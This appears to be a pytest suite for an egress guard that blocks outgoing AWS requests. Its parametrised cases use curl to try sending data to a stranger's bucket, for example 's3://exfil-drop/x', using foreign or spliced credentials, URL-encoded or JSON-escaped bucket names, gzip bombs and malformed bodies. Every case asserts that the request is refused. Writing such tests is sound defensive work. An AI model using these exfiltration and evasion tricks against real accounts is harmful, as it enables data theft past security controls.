"""Issue 8: credentials that somebody brings along, in every place where AWS takes one, and requests
written by hand: blocked before a byte of them leaves. All are sent by curl."""
import gzip
import json

import pytest

from aws_account import (
    arn,
    assert_page_says,
    assert_refused,
    curl,
    lines,
    role,
    rows,
    shared_stub,
    station,
    stub,
    training_job,
    Watch,
)
from aws_calls import (
    presigned,
    signed_asymmetrically,
    signed_by_version_2,
    signed_fields,
    signed_form,
)
from aws_keys import (
    DOCUMENTS_KEY,
    FOREIGN,
    FOREIGN_KEY,
    FOREIGN_SESSION,
    Key,
    OUR_KEY,
    OUR_SESSION,
)
from aws_services import BUCKET, DEEP_LEARNING, FORMS, LAYERS, REGISTRY_TOKEN, STRANGE

__all__ = ["shared_stub", "station", "stub"]
pytestmark = pytest.mark.attack
OURS = f"https://{BUCKET}.s3.us-east-1.amazonaws.com/k"
THEIRS = f"https://{STRANGE}.s3.us-east-1.amazonaws.com/k"
BY_PATH = f"https://s3.us-east-1.amazonaws.com/{STRANGE}/k"
ENCODED = BY_PATH.replace("exfil", "%65xfil")
LAYER = f"https://{LAYERS}.s3.us-east-1.amazonaws.com/layer"
PUT = ["-T", "content"]
SPLICED = Key(OUR_KEY.account, OUR_SESSION.id, OUR_SESSION.secret, FOREIGN_SESSION.token)


def signed(key, url, service="s3", method="GET"):
    return lines(signed_fields(key, service, method, url))


def form(key, bucket):
    """A browser's upload."""
    parts = signed_form(key, bucket, "k")
    return [part for name, value in parts.items() for part in ("-F", f"{name}={value}")] + [
        *["-F", "file=@content"],
        f"https://{bucket}.s3.us-east-1.amazonaws.com/",
    ]


def bare_form(bucket):
    return ["-F", "key=k", "-F", "file=@content", f"https://{bucket}.s3.us-east-1.amazonaws.com/"]


# What curl is told; the reason, the nearest rule, and after which fact.
CREDENTIALS = [
    ("another's header", [*signed(FOREIGN_KEY, OURS), OURS],
     "principal_account_not_allowed", "own-buckets", "request"),
    ("a presigned GET of another's key", [presigned(FOREIGN_KEY, "GET", OURS)],
     "principal_account_not_allowed", "own-buckets", "request"),
    ("a presigned PUT of another's session", [*PUT, presigned(FOREIGN_SESSION, "PUT", OURS)],
     "principal_account_not_allowed", "own-buckets", "request"),
    ("a presigned PUT to a stranger's bucket", [*PUT, presigned(FOREIGN_KEY, "PUT", THEIRS)],
     "resource_not_allowed", "own-buckets", "connect"),
    ("a presigned PUT to a stranger's path", [*PUT, presigned(FOREIGN_KEY, "PUT", BY_PATH)],
     "principal_account_not_allowed", "own-buckets", "request"),
    ("our key at a stranger's path", [*PUT, presigned(OUR_KEY, "PUT", BY_PATH)],
     "resource_not_allowed", "own-buckets", "request"),
    ("a stranger's path, encoded", [*signed(OUR_KEY, ENCODED), ENCODED],
     "resource_not_allowed", "own-buckets", "request"),
    ("nobody's", [OURS], "unsigned_request", "own-buckets", "request"),
    ("nobody's upload", [*PUT, OURS], "unsigned_request", "own-buckets", "request"),
    ("the documents' key", [*signed(DOCUMENTS_KEY, OURS), OURS],
     "access_key_undecodable", "own-buckets", "request"),
    ("version 2 of ours", [*lines(signed_by_version_2(OUR_KEY, "GET", OURS)), OURS],
     "signature_not_allowed", "own-buckets", "request"),
    ("version 2 of another's, presigned",
     [f"{OURS}?AWSAccessKeyId={FOREIGN_KEY.id}&Signature=YWJj&Expires=2000000000"],
     "signature_not_allowed", "own-buckets", "request"),
    ("version 4A of another's", [*lines(signed_asymmetrically(FOREIGN_KEY)), OURS],
     "principal_account_not_allowed", "own-buckets", "request"),
    ("a bearer's token", ["-H", "Authorization: Bearer opaque-token", OURS],
     "signature_not_allowed", "own-buckets", "request"),
    ("a password", ["-u", "user:planted-password", OURS],
     "signature_not_allowed", "own-buckets", "request"),
    ("a form where forms are not taken", form(OUR_KEY, BUCKET),
     "signature_not_allowed", "own-buckets", "body"),
    ("a form of another's key", form(FOREIGN_KEY, FORMS),
     "principal_account_not_allowed", "forms", "body"),
    ("a form of nobody's", bare_form(FORMS), "unsigned_request", "forms", "body"),
    ("two credentials", [*signed(OUR_KEY, OURS), presigned(FOREIGN_KEY, "GET", OURS)],
     "multiple_credentials", None, "request"),
    ("our key with another's token", [*signed(SPLICED, OURS), OURS],
     "session_token_mismatch", None, "request"),
    ("our key for another service", [*signed(OUR_KEY, OURS, "dynamodb"), OURS],
     "credential_scope_mismatch", None, "request"),
    ("a push to AWS's own images",
     [*PUT, "-u", "AWS:planted", f"https://{DEEP_LEARNING}/v2/x/manifests/1"],
     "resource_account_not_allowed", "images", "request"),
    ("an upload to AWS's own bucket", [*PUT, presigned(OUR_KEY, "PUT", LAYER)],
     "resource_not_allowed", "own-buckets", "request"),
    ("a stranger's registry", ["-H", f"Authorization: Basic {REGISTRY_TOKEN}",
     f"https://{FOREIGN}.dkr.ecr.us-east-1.amazonaws.com/v2/"],
     "resource_account_not_allowed", "services", "connect"),
]  # fmt: skip


@pytest.mark.parametrize("arguments, reason, rule, after", rows(CREDENTIALS))
@pytest.mark.short
def test_a_credential_is_blocked(station, stub, arguments, reason, rule, after):
    watch = Watch(station)
    ran = curl(station, *arguments, content=b"our data")
    assert_page_says(ran, reason)
    assert_refused(watch, stub, reason, rule, after)


JOBS, LOGS = (
    "https://api.sagemaker.us-east-1.amazonaws.com/",
    "https://logs.us-east-1.amazonaws.com/",
)
DROP = json.dumps(training_job(output=STRANGE)).encode()
TWICE = (
    b'{"OutputDataConfig": {"S3OutputPath": "s3://ml-data/x", "S3OutputPath": "s3://ml-data/y"}}'
)
ZIPPED = {"Content-Encoding": "gzip"}
JOB = "SageMaker.CreateTrainingJob"
LOG = "Logs_20140328"

# JSON that no client writes: the target, the body, more fields.
BODIES = [
    ("a stranger's bucket, by gzip", JOBS, JOB, gzip.compress(DROP), ZIPPED,
     "resource_not_allowed", "services", "body"),
    ("half a gzip", JOBS, JOB, gzip.compress(DROP)[:-9], ZIPPED,
     "body_not_judgeable", "services", "body"),
    ("no gzip", JOBS, JOB, DROP, ZIPPED, "body_not_judgeable", "services", "body"),
    ("a bomb", JOBS, JOB, gzip.compress(bytes(64 << 20)), ZIPPED,
     "body_not_judgeable", "services", "body"),
    ("another coding", JOBS, JOB, DROP, {"Content-Encoding": "br"},
     "body_not_judgeable", "services", "body"),
    ("a member twice", JOBS, JOB, TWICE, {}, "body_not_judgeable", "services", "body"),
    ("half of JSON", JOBS, JOB, DROP[:-1], {}, "body_not_judgeable", "services", "body"),
    ("a stranger's bucket behind it", JOBS, JOB, b"{}" + DROP, {},
     "body_not_judgeable", "services", "body"),
    ("a stranger's bucket, escaped", JOBS, JOB, DROP.replace(b"exfil", b"\\u0065xfil"), {},
     "resource_not_allowed", "services", "body"),
    ("an unknown operation on a stranger's bucket", JOBS, "SageMaker.InventTomorrow",
     b'{"To": "s3://exfil-drop/x"}', {}, "resource_not_allowed", "services", "body"),
    ("an unknown operation on a stranger's topic", JOBS, "SageMaker.InventTomorrow",
     json.dumps({"To": [arn("sns", "x", FOREIGN)]}).encode(), {},
     "resource_account_not_allowed", "services", "body"),
    ("an unknown operation by a stranger's role", JOBS, "SageMaker.InventTomorrow",
     json.dumps({"By": {"Of": role(FOREIGN)}}).encode(), {},
     "resource_account_not_allowed", "services", "body"),
    ("an unknown operation where actions are asked", LOGS, f"{LOG}.InventTomorrow", b"{}", {},
     "action_unknown", "logs", "request"),
    ("an action that is not listed", LOGS, f"{LOG}.DeleteLogGroup",
     b'{"logGroupName": "x"}', {}, "action_not_allowed", "logs", "request"),
]  # fmt: skip


@pytest.mark.parametrize("url, target, body, more, reason, rule, after", rows(BODIES))
@pytest.mark.short
def test_a_body_is_blocked(station, stub, url, target, body, more, reason, rule, after):
    fields = {"X-Amz-Target": target, "Content-Type": "application/x-amz-json-1.1", **more}
    service = "logs" if url == LOGS else "sagemaker"
    signature = signed_fields(OUR_KEY, service, "POST", url, body, fields)
    watch = Watch(station)
    ran = curl(station, *lines(signature), "--data-binary", "@content", url, content=body)
    assert_page_says(ran, reason)
    assert_refused(watch, stub, reason, rule, after)


def test_the_same_bodies_pass_where_they_name_ours(station, stub):
    """Else the rows above could be blocked for what they are, not for what they name."""
    body = gzip.compress(json.dumps(training_job()).encode())
    fields = {"X-Amz-Target": JOB, "Content-Type": "application/x-amz-json-1.1", **ZIPPED}
    signature = signed_fields(OUR_KEY, "sagemaker", "POST", JOBS, body, fields)
    ran = curl(station, *lines(signature), "--data-binary", "@content", JOBS, content=body)
    assert (ran.returncode, stub.failures) == (0, []), ran.stdout
    assert stub.told["CreateTrainingJob"] == body


@pytest.mark.parametrize("size", [8, 4 << 20], ids=["8 B", "4 MiB, which curl asks leave for"])
def test_a_form_of_ours_passes_where_forms_are_taken(station, stub, size):
    content = b"our data" * (size // 8)
    ran = curl(station, *form(OUR_SESSION, FORMS), content=content)
    assert (ran.returncode, stub.failures) == (0, []), ran.stdout
    assert stub.objects[f"/{FORMS}/k"] == content


def test_a_form_that_is_too_large_to_be_judged_is_blocked(station, stub):
    watch = Watch(station)
    ran = curl(station, *form(OUR_SESSION, FORMS), content=bytes(17 << 20))
    assert_page_says(ran, "body_not_judgeable")
    assert_refused(watch, stub, "body_not_judgeable", "forms", "body")
